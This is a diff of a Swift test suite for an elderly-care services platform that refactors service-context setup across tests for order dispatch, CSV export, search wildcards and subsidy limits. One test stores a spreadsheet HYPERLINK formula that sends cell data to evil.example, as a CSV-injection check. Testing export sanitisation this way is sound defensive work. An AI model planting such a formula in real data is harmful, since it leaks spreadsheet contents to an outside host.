@@ -85,33 +85,23 @@ import YanglaoTestSupport
         try await withTestApp { app in
             let county = try await app.actor("county.410902")
             let own = try await app.admittedProvider(serving: ["meal", "bathing"])
-            let providers = ProviderService(StoreContext(database: app.db, actor: county, protection: app.dataProtection))
+            let providers = ProviderService(app.context(as: county))
             let code = try #require(CreditCode.completing("91350100M000200Y4")).value
             let rival = try await providers.apply(
                 ProviderApplication(
                     name: "康乐家政服务部", creditCode: code, contactPhone: "13900002222", address: "华龙区胜利路 2 号",
                     serviceTypes: ["meal"], serviceArea: ["410902001000"]), to: RegionCode(validated: "410902000000"))
             _ = try await providers.decide(rival.id!, .admit, note: "")
-            let workers = WorkerService(StoreContext(database: app.db, actor: county, protection: app.dataProtection))
-            _ = try await workers.add(
-                to: rival.id!,
-                WorkerInput(
-                    name: "护理员丙", phone: "13700003333", skills: ["meal"], certificateLevel: 1,
-                    latitude: 35.765, longitude: 115.029))
-            let mine = try await workers.add(
-                to: own.id!,
-                WorkerInput(
-                    name: "护理员甲", phone: "13812345678", skills: ["bathing"], certificateLevel: 1,
-                    latitude: 35.762, longitude: 115.029))
-            _ = try await workers.setDuty(mine.id!, onDuty: true)
+            _ = try await app.worker(of: rival, name: "护理员丙", phone: "13700003333", onDuty: false)
+            _ = try await app.worker(of: own, skills: ["bathing"], latitude: 35.762)
             try await app.moveAccount("provider", to: "410902000000")
             _ = try await providers.linkAdmin(own.id!, username: "provider")
 
             var person = ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: "中原路1号", regionCode: "410902001001")
             person.latitude = 35.7620
             person.longitude = 115.0290
-            let elder = try await ElderService(StoreContext(database: app.db, actor: county, protection: app.dataProtection)).create(person)
-            let orders = OrderService(StoreContext(database: app.db, actor: county, protection: app.dataProtection))
+            let elder = try await ElderService(app.context(as: county)).create(person)
+            let orders = OrderService(app.context(as: county))
             let (order, _) = try await orders.create(OrderInput(elderId: elder.id!, serviceType: "bathing", channel: .phone))
             #expect(order.providerID == own.id)
 
@@ -153,7 +143,7 @@ import YanglaoTestSupport
             let county = try await app.actor("county.410902")
             let formula = #"=HYPERLINK("http://evil.example/?x="&A2,"点我")"#
             let person = ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: formula, regionCode: "410902001001")
-            _ = try await ElderService(StoreContext(database: app.db, actor: county, protection: app.dataProtection)).create(person)
+            _ = try await ElderService(app.context(as: county)).create(person)
             let token = try await app.token("county.410902")
             try await app.testing().test(.GET, "/api/v1/elders/export?format=csv&name=王大爷", headers: .bearer(token)) { res in
                 #expect(res.status == .ok)
@@ -233,7 +223,7 @@ import YanglaoTestSupport
     @Test func likeWildcardsInASearchMatchThemselves() async throws {
         try await withTestApp { app in
             let county = try await app.actor("county.410902")
-            _ = try await ElderService(StoreContext(database: app.db, actor: county, protection: app.dataProtection))
+            _ = try await ElderService(app.context(as: county))
                 .create(ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: "中原路1号", regionCode: "410902001001"))
             let token = try await app.token("county.410902")
             for wildcard in ["%25", "_"] {
@@ -323,7 +313,7 @@ import YanglaoTestSupport
     @Test func aSubsidyAmountBeyondAnyRealFigureIsRefusedBeforeARunCouldOverflow() async throws {
         try await withTestApp { app in
             let config = SubsidyConfiguration(
-                StoreContext(database: app.db, actor: try await app.actor("county.410902"), protection: app.dataProtection))
+                app.context(as: try await app.actor("county.410902")))
             let huge = SubsidyScheme(code: "per_bed", name: "每床补贴", amount: .perUnit(fact: "beds", fen: Int.max))
             await #expect(throws: AppError.self) { try await config.configure(RegionCode(validated: "410902000000"), schemes: [huge]) }
             let banded = SubsidyScheme(code: "age", name: "高龄", amount: .bands(fact: "age", bands: [AmountBand(from: 80, fen: -1, label: "80+")]))
